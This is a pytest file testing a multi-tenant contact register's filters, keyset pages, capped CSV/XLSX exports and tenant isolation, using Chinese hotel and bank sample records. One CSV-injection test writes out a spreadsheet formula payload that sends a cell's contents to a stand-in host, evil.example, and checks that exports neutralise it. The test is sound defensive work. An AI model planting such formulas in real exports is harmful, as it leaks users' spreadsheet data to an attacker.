"""Registers (登记簿): filters on local dates and fields, keyset pages, CSV and XLSX exports."""
import csv
import io
import re
from datetime import datetime

import pytest
from conftest import register
from openpyxl import load_workbook


def _refs(res):
    assert res.status_code == 200, res.get_data(as_text=True)[:1000]
    return re.findall(r'<tr data-ref="([^"]+)"', res.get_data(as_text=True))


@pytest.fixture
def hotel_contacts(login, frozen):
    """Four hotel contacts around local midnight (Asia/Shanghai), oldest first."""
    security, front = login("demo-hotel", "security"), login("demo-hotel", "front-office")
    made = []
    with frozen("2026-11-01T10:00:00+08:00"):
        made.append(register(security, summary="客房噪音", channel="visit",
                             customer={"name": "钱女士", "phone": "13900000001"}))
    with frozen("2026-11-02T23:30:00+08:00"):          # 15:30 UTC, still 2 November locally
        made.append(register(security, matter_type="inquiry", summary="早餐时间"))
    with frozen("2026-11-03T00:30:00+08:00"):          # 16:30 UTC on 2 November
        c = register(front, summary="热水不热", customer={"name": "孙先生", "phone": "13700000003"})
        res = front.post(f"/contacts/{c['ref']}/transfers",
                         json={"to_department": "engineering", "mode": "handover"})
        assert res.status_code == 201, res.get_json()
        made.append(c)
    with frozen("2026-11-03T09:00:00+08:00"):
        made.append(register(security, summary="遗失物品", matter_type="lost_property"))
    return [c["ref"] for c in made]


def test_register_lists_newest_first_with_paper_columns(web_login, hotel_contacts, frozen):
    me = web_login("demo-hotel", "security")
    with frozen("2026-11-03T10:00:00+08:00"):
        res = me.get("/register")
    assert _refs(res) == hotel_contacts[::-1]
    html = res.get_data(as_text=True)
    assert "钱女士" in html and "13900000001" in html
    assert "2026-11-01 10:00" in html                       # received at, tenant time zone
    assert 'id="export-csv"' in html and "50,000" in html


def test_register_date_filter_uses_local_days(web_login, hotel_contacts, frozen):
    me = web_login("demo-hotel", "security")
    with frozen("2026-11-03T10:00:00+08:00"):
        assert _refs(me.get("/register?from=2026-11-02&to=2026-11-02")) == [hotel_contacts[1]]
        assert _refs(me.get("/register?from=2026-11-03")) == hotel_contacts[:1:-1]
        assert _refs(me.get("/register?to=2026-11-01")) == [hotel_contacts[0]]
        res = me.get("/register?from=yesterday")
        assert 'class="err"' in res.get_data(as_text=True)        # the error, filter ignored
        assert len(_refs(res)) == 4


def test_register_field_filters(web_login, hotel_contacts, frozen):
    me = web_login("demo-hotel", "security")
    first, second, third, fourth = hotel_contacts
    with frozen("2026-11-03T10:00:00+08:00"):
        assert _refs(me.get("/register?channel=visit")) == [first]
        assert _refs(me.get("/register?matter_type=inquiry")) == [second]
        assert _refs(me.get("/register?state=transferred")) == [third]
        assert _refs(me.get("/register?owner=front-office")) == [third]
        assert _refs(me.get("/register?owner=nobody")) == []
        assert _refs(me.get("/register?handler_department=engineering")) == [third]
        # per department: what its staff received OR what it handles
        assert _refs(me.get("/register?department=engineering")) == [third]
        assert _refs(me.get("/register?department=front_office")) == [third]
        assert _refs(me.get("/register?department=security")) == [fourth, second, first]
        assert me.get("/register?department=nope").status_code == 404
    # overdue: a running clock past due (the hotel's 1-hour transfer clock)
    with frozen("2026-11-03T09:30:00+08:00"):
        late = _refs(me.get("/register?overdue=1"))
    assert first in late and second in late and fourth not in late


def test_register_keyset_pages(web_login, hotel_contacts, frozen, monkeypatch):
    from core.web import registers
    monkeypatch.setattr(registers, "PAGE", 3)
    me = web_login("demo-hotel", "security")
    with frozen("2026-11-03T10:00:00+08:00"):
        res = me.get("/register")
        assert _refs(res) == hotel_contacts[:0:-1]
        html = res.get_data(as_text=True)
        assert 'id="page-newer"' not in html
        older = re.search(r'id="page-older" href="([^"]+)"', html).group(1).replace("&amp;", "&")
        assert "before=" in older and "offset" not in older
        res = me.client.get(older)
        assert _refs(res) == hotel_contacts[:1]
        html = res.get_data(as_text=True)
        assert 'id="page-older"' not in html
        newer = re.search(r'id="page-newer" href="([^"]+)"', html).group(1).replace("&amp;", "&")
        assert _refs(me.client.get(newer)) == hotel_contacts[:0:-1]
        # filters travel with the page links
        res = me.get("/register?owner=security")
        assert _refs(res) == [hotel_contacts[3], hotel_contacts[1], hotel_contacts[0]]


def test_csv_export_has_bom_chinese_and_only_the_filtered_rows(web_login, hotel_contacts,
                                                               frozen):
    me = web_login("demo-hotel", "security")
    with frozen("2026-11-03T10:00:00+08:00"):
        res = me.get("/register.csv?owner=security&lang=en")
    assert res.status_code == 200
    assert res.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in res.headers["Content-Disposition"]
    body = res.get_data()
    assert body.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert rows[0][:3] == ["Reference", "Received at", "Registered at"]
    assert [r[0] for r in rows[1:]] == [hotel_contacts[3], hotel_contacts[1], hotel_contacts[0]]
    last = rows[-1]
    assert last[4] == "钱女士" and last[5] == "13900000001" and last[7] == "客房噪音"
    assert last[1] == "2026-11-01 10:00"                      # local time, not UTC
    assert "X-Export-Capped" not in res.headers


def test_xlsx_export_parses_back_with_local_dates(web_login, hotel_contacts, frozen):
    me = web_login("demo-hotel", "security")
    with frozen("2026-11-03T10:00:00+08:00"):
        res = me.get("/register.xlsx?from=2026-11-02&to=2026-11-02&lang=en")
    assert res.status_code == 200
    assert res.headers["Content-Type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
    sheet = load_workbook(io.BytesIO(res.get_data())).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][0] == "Reference" and rows[0][4] == "Customer"
    assert [r[0] for r in rows[1:]] == [hotel_contacts[1]]
    assert rows[1][2] == datetime(2026, 11, 2, 23, 30)       # registered, local wall time
    assert rows[1][4] == "赵先生" and rows[1][7] == "早餐时间"


def test_exports_never_let_a_customer_text_run_as_a_formula(web_login, login, frozen):
    """A summary or name typed as a formula reaches Excel as plain text (CSV injection)."""
    security = login("demo-hotel", "security")
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
    with frozen("2026-11-05T10:00:00+08:00"):
        register(security, summary=evil, customer={"name": "@SUM(1+1)", "phone": "13900000009"})
        me = web_login("demo-hotel", "security")
        body = me.get("/register.csv?from=2026-11-05&to=2026-11-05&lang=en").get_data()
        book = load_workbook(io.BytesIO(
            me.get("/register.xlsx?from=2026-11-05&to=2026-11-05&lang=en").get_data()))
    row = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))[1]
    assert row[7] == "'" + evil and row[4] == "'@SUM(1+1)"
    cells = list(book.active.iter_rows(min_row=2, max_row=2))[0]
    assert cells[7].data_type == "s" and cells[7].value == "'" + evil
    assert cells[4].value == "'@SUM(1+1)" and cells[5].value == "13900000009"


def test_exports_say_when_they_are_capped(web_login, hotel_contacts, frozen, monkeypatch):
    from core.web import registers
    monkeypatch.setattr(registers, "EXPORT_CAP", 2)
    monkeypatch.setattr(registers, "CHUNK", 1)
    me = web_login("demo-hotel", "security")
    with frozen("2026-11-03T10:00:00+08:00"):
        res = me.get("/register.csv?lang=en")
        rows = list(csv.reader(io.StringIO(res.get_data().decode("utf-8-sig"))))
        assert [r[0] for r in rows[1:3]] == hotel_contacts[:1:-1]
        assert len(rows) == 4 and rows[3][0].startswith("Capped at 2 rows")
        assert res.headers["X-Export-Capped"] == "2"
        res = me.get("/register.xlsx?lang=en")
        rows = list(load_workbook(io.BytesIO(res.get_data())).active.iter_rows(values_only=True))
        assert len(rows) == 4 and rows[3][0].startswith("Capped")


def test_another_tenants_contacts_never_appear(web_login, login, hotel_contacts, frozen):
    bank = login("demo-bank", "counter")
    with frozen("2026-11-03T09:30:00+08:00"):
        other = register(bank, matter_type="business", summary="开户")["ref"]
    hotel, banker = web_login("demo-hotel", "security"), web_login("demo-bank", "counter")
    with frozen("2026-11-03T10:00:00+08:00"):
        assert other not in _refs(hotel.get("/register"))
        assert other not in hotel.get("/register.csv").get_data(as_text=True)
        assert _refs(banker.get("/register")) == [other]
        csv_text = banker.get("/register.csv").get_data().decode("utf-8-sig")
        assert other in csv_text and not any(ref in csv_text for ref in hotel_contacts)
        # a department code of the hotel means nothing in the bank
        assert banker.get("/register?department=housekeeping").status_code == 404
        assert banker.get(f"/register?before=999999999").status_code == 200
